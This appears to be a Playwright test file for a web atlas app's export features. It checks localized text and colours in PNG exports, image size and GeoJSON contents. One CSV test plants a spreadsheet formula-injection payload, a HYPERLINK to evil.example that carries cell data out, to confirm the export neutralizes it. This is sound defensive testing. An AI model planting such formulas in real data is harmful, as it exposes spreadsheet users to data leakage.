import { expect, test } from '@playwright/test';
import { MAP_THEMES } from '../src/core/draw/theme';
import { exportFile, holdMap, open, pngColours } from './helpers';

// The words of the PNG as the export draws them (every `fillText` on a 2D canvas, with where it starts
// and how wide it is, in the canvas's CSS px): the picture's words are the page's, in its language,
// whole (a phone's export squeezed its title and credit, and cut its legend: issue 14).
test('PNG export: its words are the page’s, in its language, each whole inside the picture', async ({
  page,
}) => {
  await page.addInitScript(() => {
    const drawn: { text: string; left: number; right: number; width: number; fill: string }[] = [];
    Object.assign(window, { drawn });
    const fill = CanvasRenderingContext2D.prototype.fillText;
    CanvasRenderingContext2D.prototype.fillText = function (text, x, y, maxWidth) {
      const k = this.getTransform().a || 1;
      const w = this.measureText(text).width;
      const left =
        this.textAlign === 'center'
          ? x - w / 2
          : this.textAlign === 'right' || this.textAlign === 'end'
            ? x - w
            : x;
      drawn.push({ text, left, right: left + w, width: this.canvas.width / k, fill: String(this.fillStyle) });
      return fill.call(this, text, x, y, maxWidth);
    };
  });
  await page.setViewportSize({ width: 390, height: 844 });
  for (const lang of ['vi', 'fr'] as const) {
    // (The language in the query, so that each is a page load: an address differing by its hash only
    // kept the Vietnamese page, and the French export went untested.)
    await open(page, `./?lang=${lang}#date=2025-03-01&sel=VN-13`, { map: false });
    expect(await page.locator('html').getAttribute('lang')).toBe(lang);
    await page.evaluate(() => ((window as unknown as { drawn: unknown[] }).drawn.length = 0));
    await exportFile(page, 'png');
    const drawn = await page.evaluate(
      () =>
        (
          window as unknown as {
            drawn: { text: string; left: number; right: number; width: number; fill: string }[];
          }
        ).drawn,
    );
    const words = drawn.map((d) => d.text).join(' ');
    const squeeze = (t: string | null) => (t ?? '').replace(/\s+/g, ' ').trim();
    const page_ = {
      title: squeeze(await page.locator('h1').textContent()),
      sources: squeeze(await page.locator('#attribution .sources').textContent()),
      arc: squeeze(await page.locator('.legend .arc-key').textContent()),
      area: squeeze(await page.locator('.legend .area-key').textContent()),
      names: squeeze(await page.locator('.legend .names').textContent()),
    };
    for (const [what, text] of Object.entries(page_)) {
      expect(text.length, `${lang}: the page's ${what}`).toBeGreaterThan(3);
      expect(words.replace(/\s+/g, ' '), `${lang}: the PNG's ${what}`).toContain(text);
    }
    // Each word of the legend in the page's ink for it (the names' key: each kind of name in its own),
    // and the credit's lines after it in the legend's words' ink, not the last name's.
    const ink = (selector: string) =>
      page.locator(selector).evaluate((el) => {
        const c = document.createElement('canvas').getContext('2d')!;
        c.fillStyle = getComputedStyle(el).color;
        return String(c.fillStyle);
      });
    const fillOf = (text: string) => drawn.find((d) => d.text === text)?.fill;
    const legendInk = await ink('.legend .arc-key');
    expect(fillOf(page_.arc), `${lang}: the arc's words`).toBe(legendInk);
    for (const [selector, what] of [
      ['.legend .name-vn', 'Vietnamese places'],
      ['.legend .name-partner', 'partners'],
    ] as const) {
      const text = squeeze(await page.locator(selector).textContent());
      expect(fillOf(text), `${lang}: "${text}", the ${what}' names`).toBe(await ink(selector));
    }
    expect(await ink('.legend .name-partner')).not.toBe(legendInk);
    expect(drawn.at(-1)!.fill, `${lang}: the credit's last line`).toBe(legendInk);
    // Each line whole inside the picture, with its margin.
    for (const d of drawn) {
      expect(d.left, `${lang}: "${d.text}" starts inside`).toBeGreaterThanOrEqual(0);
      expect(d.right, `${lang}: "${d.text}" ends inside`).toBeLessThanOrEqual(d.width);
    }
  }
});

// The main map leaves the names of the places its close-up frames to the close-up, an overlay of its
// own: an export of the main map's canvas alone named one of the seed data's border provinces (the
// audit of issue 14). The export draws the close-up where the page shows it, framed and captioned.
test('PNG export with the map: its close-up drawn where the page shows it, captioned; with a selection, the map at 2× with title and legend', async ({
  page,
}) => {
  test.slow(true, 'a map start and two exports drawn at 2× in software WebGL');
  await page.setViewportSize({ width: 1280, height: 800 });
  await open(page, './');
  await page.evaluate(() => window.atlas?.idle());
  const at = await page.evaluate(() => {
    const map = document.querySelector('#map')!.getBoundingClientRect();
    const rel = (s: string) => {
      const r = document.querySelector(s)?.getBoundingClientRect();
      return r
        ? {
            left: r.left - map.left,
            top: r.top - map.top,
            right: r.right - map.left,
            bottom: r.bottom - map.top,
          }
        : null;
    };
    return {
      closeUp: rel('.close-up:not([hidden])'),
      caption: rel('.close-up:not([hidden]) .close-up-title'),
    };
  });
  expect(at.closeUp).not.toBeNull();
  const png = await exportFile(page, 'png');
  // The map's first row in the export (2×): the sea's, along its top.
  const mapTop = (await pngColours(page, png, [MAP_THEMES.light.background], { tolerance: 3 })).stats[0]!.box!
    .top;
  const inPng = (b: { left: number; top: number; right: number; bottom: number }, inset: number) => ({
    rows: [mapTop + 2 * (b.top + inset), mapTop + 2 * (b.bottom - inset)] as [number, number],
    columns: [2 * (b.left + inset), 2 * (b.right - inset)] as [number, number],
  });
  // Its partner region, Guangxi, fills much of it (the main map there is Central Asia's land).
  const {
    stats: [region],
  } = await pngColours(page, png, [MAP_THEMES.light.activeFill], { tolerance: 6, ...inPng(at.closeUp!, 4) });
  expect(region!.share).toBeGreaterThan(0.2);
  // Its caption on the page's surface colour.
  // (As #rrggbb: a canvas's fill style says it so.)
  const surface = await page.evaluate(() => {
    const ctx = document.createElement('canvas').getContext('2d')!;
    ctx.fillStyle = getComputedStyle(document.documentElement).getPropertyValue('--surface').trim();
    return ctx.fillStyle;
  });
  const {
    stats: [caption],
  } = await pngColours(page, png, [surface], { tolerance: 3, ...inPng(at.caption!, 1) });
  expect(caption!.share).toBeGreaterThan(0.5);

  // (The same map start: a selection, exported.)
  await test.step('PNG export: the map at 2× with title and legend, never a blank canvas', async () => {
    await page.evaluate(() => {
      window.atlas!.setDate('2025-03-01');
      window.atlas!.select('VN-13');
    });
    await page.evaluate(() => window.atlas?.idle());
    const map = (await page.locator('#map').boundingBox())!;
    const png = await exportFile(page, 'png');
    expect(png.subarray(1, 4).toString()).toBe('PNG');
    // IHDR: width and height, big-endian, at bytes 16 and 20.
    expect(png.readUInt32BE(16)).toBe(Math.round(map.width) * 2);
    // Title, date and selection above, legend and sources below: the picture grows to hold them.
    expect(png.readUInt32BE(20)).toBeGreaterThan((Math.round(map.height) + 100) * 2);
    // Decode it in the page and look at the map area: many colours (land, sea, arcs), the arc red among them.
    // The map's rows in the export: the sea colour's extent.
    const sea = (await pngColours(page, png, [MAP_THEMES.light.background], { tolerance: 3 })).stats[0]!.box!;
    const [mapTop, mapBottom] = [sea.top, sea.bottom];
    const {
      distinct,
      stats: [arc],
    } = await pngColours(page, png, [MAP_THEMES.light.arc], { tolerance: 19, rows: [mapTop, mapBottom] });
    const stats = { colours: distinct, red: arc!.count };
    expect(stats.colours).toBeGreaterThan(50);
    expect(stats.red).toBeGreaterThan(100);
  });
});

test('CSV export defuses a formula planted in the data', async ({ page }) => {
  await page.route('**/data/atlas.json', async (route) => {
    const res = await route.fetch();
    const atlas = await res.json();
    const hanoi = atlas.events.find((e: { date: string }) => e.date === '2018-11-21');
    hanoi.title.fr = '=HYPERLINK("http://evil.example/?"&A1,"clic")';
    hanoi.source.outlet = '@SUM(1+1)';
    await route.fulfill({ response: res, json: atlas });
  });
  await open(page, './#date=2019-01-01', { map: false });
  const csv = (await exportFile(page, 'csv')).toString('utf8');
  expect(csv.charCodeAt(0)).toBe(0xfeff);
  const [header, row] = csv.slice(1).trim().split('\r\n');
  expect(header?.split(',')).toContain('title');
  expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""clic"")"`);
  expect(row).toContain(`'@SUM(1+1)`);
  expect(row).not.toMatch(/(^|,)"?[=@+-]/);
});

test('GeoJSON export has one line per partnership shown', async ({ page }) => {
  // (The file is the data's, not the map's: the map's code is held, or the press on the Share menu
  // would start it beside the test.)
  await holdMap(page);
  await open(page, './#date=2026-01-01', { map: false });
  const fc = JSON.parse((await exportFile(page, 'geojson')).toString('utf8'));
  const shown = await page.evaluate(() => window.atlas!.state().visibleArcs.map((a) => a.id));
  expect(fc.features.map((f: { id: string }) => f.id)).toEqual(shown);
});
